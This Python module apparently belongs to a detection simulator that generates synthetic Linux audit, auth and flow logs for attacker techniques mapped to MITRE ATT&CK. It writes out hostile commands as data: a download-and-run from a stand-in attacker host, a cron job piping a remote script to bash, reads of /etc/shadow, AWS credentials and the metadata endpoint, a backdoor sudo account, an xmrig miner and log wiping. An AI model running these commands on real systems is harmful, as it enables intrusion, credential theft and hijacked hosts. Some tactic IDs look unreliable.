"""What attackers do on a Linux host: auditd, auth.log and flows. Source: MITRE ATT&CK for Linux; texts as the programs write them."""

from minixdr.simulate.logs.linux_audit import Actor, Execution, FileOpen
from minixdr.simulate.logs.linux_syslog import accepted, failed, opened, sudo
from minixdr.simulate.logs.vpc_flow import Flow
from minixdr.simulate.stage import Stage
from minixdr.simulate.world import ATTACKER_ADDRESSES, Host

_AGENT = "/usr/bin/amazon-ssm-agent"
_METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-instance"
_SHELL = "/usr/bin/dash"


def run(stage: Stage, host: Host, actor: Actor, *command: str, exe: str = "") -> None:
    """Start a program."""
    stage.execute(host.name, Execution(exe or f"/usr/bin/{command[0]}", command, actor))


def by_agent(stage: Stage) -> Actor:
    """Return a process that Systems Manager's agent started: root, without a login."""
    return Actor(stage.rng.randrange(20_000, 60_000), 812, folder="/var/lib/amazon/ssm")


def fetch_tool(stage: Stage, host: Host, actor: Actor, tool: str = "update") -> None:
    """Download a program to /tmp and start it."""
    stage.step(f"A program is fetched to /tmp of {host.name} and started", "TA0011", "T1105")
    url = f"http://{ATTACKER_ADDRESSES[1]}:8080/{tool}"
    run(
        stage,
        host,
        actor,
        "sh",
        "-c",
        f"curl -s {url} -o /tmp/{tool} && chmod +x /tmp/{tool} && /tmp/{tool}",
        exe=_SHELL,
    )
    run(stage, host, actor, "curl", "-s", url, "-o", f"/tmp/{tool}")
    stage.flow(
        Flow(host.interface_id, host.address, ATTACKER_ADDRESSES[1], 40_122, 8_080, 900),
        Flow(host.interface_id, ATTACKER_ADDRESSES[1], host.address, 8_080, 40_122, 4_812_004),
    )
    run(stage, host, actor, "chmod", "+x", f"/tmp/{tool}")
    run(stage, host, actor, f"/tmp/{tool}", exe=f"/tmp/{tool}")


def look_around(stage: Stage, host: Host, actor: Actor) -> None:
    """Ask who, what, where."""
    stage.step(f"{host.name} is explored", "TA0007", "T1082")
    for command in (
        ("whoami",),
        ("id",),
        ("uname", "-a"),
        ("hostname",),
        ("ps", "aux"),
        ("ss", "-tulpn"),
        ("cat", "/etc/passwd"),
        ("last", "-a"),
    ):
        run(stage, host, actor, *command)


def read_credentials(stage: Stage, host: Host, actor: Actor) -> None:
    """Read the password hashes, a private key, the instance's role credentials."""
    stage.step(f"Password hashes, keys and the role's credentials of {host.name} are read", "TA0006", "T1003.008")
    run(stage, host, actor, "cat", "/etc/shadow")
    stage.open_file(host.name, FileOpen("/usr/bin/cat", "/etc/shadow", actor))
    run(stage, host, actor, "find", "/", "-name", "id_rsa", "-o", "-name", "id_ed25519")
    run(stage, host, actor, "cat", "/home/ubuntu/.aws/credentials")
    stage.step(f"The metadata service of {host.name} gives the role's credentials", "TA0006", "T1552.005")
    run(stage, host, actor, "curl", "-s", _METADATA)


def leave_key(stage: Stage, host: Host, actor: Actor) -> None:
    """Make an account, put a key in it, log in with it."""
    stage.step(f"A login is left on {host.name}", "TA0003", "T1136.001")
    run(stage, host, actor, "useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysmon", exe="/usr/sbin/useradd")
    stage.auth(host.name, "useradd", 4_411, "new group: name=sysmon, GID=1007")
    stage.auth(
        host.name,
        "useradd",
        4_411,
        "new user: name=sysmon, UID=1007, GID=1007, home=/home/sysmon, shell=/bin/bash, from=none",
    )
    stage.auth(host.name, "usermod", 4_415, "add 'sysmon' to group 'sudo'")
    stage.step(f"An SSH key is added on {host.name}", "TA0003", "T1098.004")
    run(
        stage,
        host,
        actor,
        "sh",
        "-c",
        "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample >> /home/sysmon/.ssh/authorized_keys",
        exe=_SHELL,
    )
    stage.open_file(host.name, FileOpen(_SHELL, "/home/sysmon/.ssh/authorized_keys", actor, "ssh_keys", "441"))
    stage.wait(60, 200)
    log_in(stage, host, "sysmon", ATTACKER_ADDRESSES[0])


def log_in(stage: Stage, host: Host, user: str, address: str, *, method: str = "publickey") -> None:
    """Log in by SSH and become root."""
    stage.step(f"SSH login to {host.name} as {user} from outside", "TA0008", "T1021.004")
    pid, port = stage.rng.randrange(20_000, 60_000), stage.rng.randrange(30_000, 60_000)
    stage.flow(
        Flow(host.interface_id, address, host.address, port, 22, 18_400, 58),
        Flow(host.interface_id, host.address, address, 22, port, 96_220, 58),
    )
    stage.auth(
        host.name,
        "sshd",
        pid,
        accepted(user, address, port, method=method, key="YW5vdGhlcm1hZGV1cGZpbmdlcnByaW50Zm9yYWtleQ"),
    )
    stage.auth(host.name, "sshd", pid, opened("sshd", user, 1_007))
    stage.wait(5, 30)
    stage.auth(host.name, "sudo", 0, sudo(user, "/bin/bash"))
    stage.auth(host.name, "sudo", 0, opened("sudo", "root", 0, user))


def guess_passwords(stage: Stage, host: Host, user: str, count: int) -> None:
    """Guess one account's password until it is right."""
    stage.step(f"{count} guesses at {user}'s password on {host.name}, then the right one", "TA0006", "T1110.001")
    for _ in range(count):
        pid, port = stage.rng.randrange(20_000, 60_000), stage.rng.randrange(30_000, 60_000)
        stage.auth(host.name, "sshd", pid, failed(user, ATTACKER_ADDRESSES[0], port))
        stage.flow(Flow(host.interface_id, ATTACKER_ADDRESSES[0], host.address, port, 22, 3_200, 3))
        stage.wait(0.6, 3)
    log_in(stage, host, user, ATTACKER_ADDRESSES[0], method="password")


def mine(stage: Stage, host: Host, actor: Actor) -> None:
    """Fetch a miner, kill rivals, start it, keep it."""
    stage.step(f"A miner is started on {host.name}", "TA0040", "T1496.001")
    run(stage, host, actor, "pkill", "-9", "-f", "kinsing")
    pool = f"stratum+tcp://{ATTACKER_ADDRESSES[1]}:3333"
    run(
        stage,
        host,
        actor,
        "/tmp/.x/xmrig",
        "-o",
        pool,
        "-u",
        "miner",
        "--donate-level=1",
        "--cpu-priority",
        "5",
        exe="/tmp/.x/xmrig",
    )
    for _ in range(12):
        stage.wait(240, 360)
        stage.flow(
            Flow(
                host.interface_id,
                host.address,
                ATTACKER_ADDRESSES[1],
                51_744,
                3_333,
                stage.rng.randrange(20_000, 30_000),
                60,
            ),
            Flow(
                host.interface_id,
                ATTACKER_ADDRESSES[1],
                host.address,
                3_333,
                51_744,
                stage.rng.randrange(30_000, 40_000),
                60,
            ),
        )


def keep_by_cron(stage: Stage, host: Host, actor: Actor) -> None:
    """Start again every few minutes; hide."""
    stage.step(f"A cron job brings the program back on {host.name}", "TA0003", "T1053.003")
    line = f"(crontab -l; echo '*/5 * * * * curl -s http://{ATTACKER_ADDRESSES[1]}:8080/x.sh | bash') | crontab -"
    run(stage, host, actor, "sh", "-c", line, exe=_SHELL)
    run(stage, host, actor, "crontab", "-")
    stage.open_file(host.name, FileOpen("/usr/bin/crontab", "/var/spool/cron/crontabs/root", actor, "cron", "241"))
    stage.auth(host.name, "crontab", actor.pid + 9, "(root) REPLACE (root)")
    stage.step(f"Traces are removed from {host.name}", "TA0112", "T1685.006")
    run(stage, host, actor, "chattr", "+i", "/var/spool/cron/crontabs/root")
    run(stage, host, actor, "rm", "-f", "/var/log/auth.log.1")
    run(stage, host, actor, "sh", "-c", "history -c; unset HISTFILE", exe=_SHELL)
    run(stage, host, actor, "systemctl", "stop", "auditd")
